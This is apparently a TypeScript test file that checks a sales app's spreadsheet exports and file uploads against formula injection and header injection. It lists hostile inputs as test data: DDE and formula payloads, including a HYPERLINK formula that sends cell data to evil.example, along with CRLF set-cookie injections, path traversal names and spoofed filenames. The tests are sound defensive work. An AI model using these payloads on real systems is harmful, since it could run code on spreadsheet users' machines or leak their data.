import { readSheet } from 'read-excel-file/node';
import { beforeAll, describe, expect, it } from 'vitest';
import { allEndpoints } from '#shared/api.ts';
import { urlOf } from '#shared/http/endpoint.ts';
import { exports, type ImportDetail, imports } from '#shared/transfers/contract.ts';
import { unzip } from '../modules/transfers/zip.ts';
import { type Company, createCompany, newCustomer, nextPhone, register } from '../testing/company.ts';
import { createTestApp, type TestApp } from '../testing/createTestApp.ts';

// Whatever people have typed, a spreadsheet that opens our files finds text in it.

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '＝1+1',
  '"=1+1',
  ';=1+1',
  '%0A=1+1',
  '<f>1+1</f>',
  ']]>&<is><t>',
  '_x0041_',
  '_x003D_1+1',
  '_x005F_x003D_1+1',
  '#REF!',
  '1E5',
  '0755',
];
/** Dangerous only while white space in front survives; fields of one line lose it. */
const INDENTED = ['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1'];

let t: TestApp;
let people: Company;

beforeAll(async () => {
  t = await createTestApp();
  people = await createCompany(t);
});

/** The cells of the first sheet: as another reader finds them, and as they stand in the file. */
async function opened(content: Buffer) {
  const rows = (await readSheet(content)) as unknown[][];
  const { files } = unzip(content, (name) => name.endsWith('sheet1.xml'), { entries: 20, bytes: 1e7 });
  const xml = [...files.values()][0]?.toString('utf8') ?? '';
  return { rows, xml, cells: xml.match(/<c .*?<\/c>/gs) ?? [] };
}

/** No cell is evaluated, and what looks like a formula is marked as quoted text. */
function expectOnlyText({ xml, cells }: Awaited<ReturnType<typeof opened>>) {
  expect(xml).not.toMatch(/<f[ >/]|t="str"|t="b"|t="e"/);
  const quoted = cells.filter((cell) => /<t[^>]*>(?:[=+\-@\t＝]|&#13;)/.test(cell));
  expect(quoted.length).toBeGreaterThan(0);
  for (const cell of quoted) expect(cell).toMatch(/^<c r="[A-Z]+\d+" t="inlineStr" s="3">/);
}

async function exported(endpoint: typeof exports.leads | typeof exports.customers): Promise<Buffer> {
  const asked = await t.send('POST', endpoint.path, { as: people.admin, body: {} });
  await t.work();
  const params = { id: (asked.data as { id: string }).id };
  const { status, content } = await t.fetch(urlOf(exports.file, { params }), people.admin);
  expect(status).toBe(200);
  return content;
}

/** What remains of a text in a field of one line. */
const line = (text: string) => text.replace(/\s+/g, ' ').trim();

describe('an exported file holds as text, in every column', () => {
  it('what was typed into leads', async () => {
    const texts = [...FORMULAS, ...INDENTED];
    for (const [i, text] of texts.entries()) {
      const short = text.slice(0, 20);
      await register(t, people.rep, {
        customerName: text,
        wechat: text.slice(0, 50),
        otherHandle: text,
        contactPerson: text.slice(0, 50),
        company: text,
        province: short,
        city: short,
        address: text,
        sourceAccount: text,
        externalClueId: `${text}${i}`,
        description: text,
        followUp: { method: 'phone', content: text, result: text, nextFollowUpContent: text },
      });
    }
    const file = await opened(await exported(exports.leads));
    expectOnlyText(file);
    const [headings = [], ...rows] = file.rows;
    expect(rows).toHaveLength(texts.length);
    for (const text of texts) {
      const row = rows.find((cells) => cells[headings.indexOf('客户名称')] === line(text)) ?? [];
      // As often as it was typed into a column that the file has.
      expect(row.filter((cell) => cell === line(text)).length, text).toBeGreaterThan(5);
    }
  });

  it('what was typed into customers and their contacts', async () => {
    for (const text of FORMULAS) {
      const short = text.slice(0, 20);
      await newCustomer(t, people.rep, {
        customerName: text,
        industry: text.slice(0, 50),
        province: short,
        city: short,
        address: text,
        hotelStar: short,
        website: text,
        taxNo: text.slice(0, 30),
        description: text,
        contact: { name: text.slice(0, 50), position: text.slice(0, 50), phone: nextPhone(), wechat: short },
      });
    }
    const file = await opened(await exported(exports.customers));
    expectOnlyText(file);
    const [headings = [], ...rows] = file.rows;
    expect(rows.map((cells) => cells[headings.indexOf('客户名称')]).sort()).toEqual([...FORMULAS].sort());
  });

  it('what was wrong in an imported file, its headings and its name', async () => {
    const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const lines = [...FORMULAS, ...INDENTED].map((text) => [text, '123', text].map(quote).join(','));
    const content = ['客户名称,电话,"=1+1"', ...lines].join('\n');
    const name = '=1+1"\r\nset-cookie: a=b; 名单’%0d%0a.csv';
    const as = people.rep;
    const file = { name: name.replace(/[\r\n"]/g, ''), content };
    const brought = (await t.send('POST', imports.uploadLeads.path, { as, file })).data as ImportDetail;
    const params = { id: brought.id };
    await t.call(imports.check, { params, body: { version: brought.version } }, { as });
    await t.work();
    const answer = await t.fetch(urlOf(imports.errorFile, { params }), as);
    expect(answer.status).toBe(200);
    const file2 = await opened(answer.content);
    expectOnlyText(file2);
    const [headings = [], ...rows] = file2.rows;
    expect(headings[2]).toBe('=1+1');
    expect(rows).toHaveLength(lines.length);
    expect(rows.map((cells) => cells[0])).toEqual([...FORMULAS, ...INDENTED].map((text) => text.trim()));
    const headers = answer.headers as Record<string, string>;
    expect(headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''[\w%.!~*'()-]+$/);
    expect(headers['set-cookie']).toBeUndefined();
  });
});

it('no table leaves the server in a format that has no text cells', () => {
  const types = allEndpoints.flatMap(([, { download }]) => (download ? [download.type] : []));
  // Labels, and what people brought themselves: pictures and PDFs, named by their content.
  const others = ['application/pdf', 'application/octet-stream'];
  expect(new Set(types)).toEqual(new Set([imports.leadTemplate.download.type, ...others]));
});

it('the name of an uploaded file gets into no header, whatever is in it', async () => {
  for (const name of [
    '..\\\\..\\\\etc\\\\passwd.csv',
    '../../etc/passwd.csv',
    'a%0d%0aset-cookie: a=b.csv',
    "a'; filename=evil.exe; x='.csv",
    `${'长'.repeat(500)}.csv`,
    '\u202egpj.csv',
    '.csv',
  ]) {
    const file = { name, content: `客户名称,电话\n酒店,123` };
    const brought = (await t.send('POST', imports.uploadLeads.path, { as: people.rep, file }))
      .data as ImportDetail;
    const params = { id: brought.id };
    await t.call(imports.check, { params, body: { version: brought.version } }, { as: people.rep });
    await t.work();
    const { status, headers } = await t.fetch(urlOf(imports.errorFile, { params }), people.rep);
    expect(status).toBe(200);
    const { 'content-disposition': disposition } = headers as Record<string, string>;
    expect(disposition).toMatch(/^attachment; filename\*=UTF-8''[\w%.!~*'()-]+\.xlsx$/);
    expect(disposition?.length).toBeLessThan(3_000);
  }
});
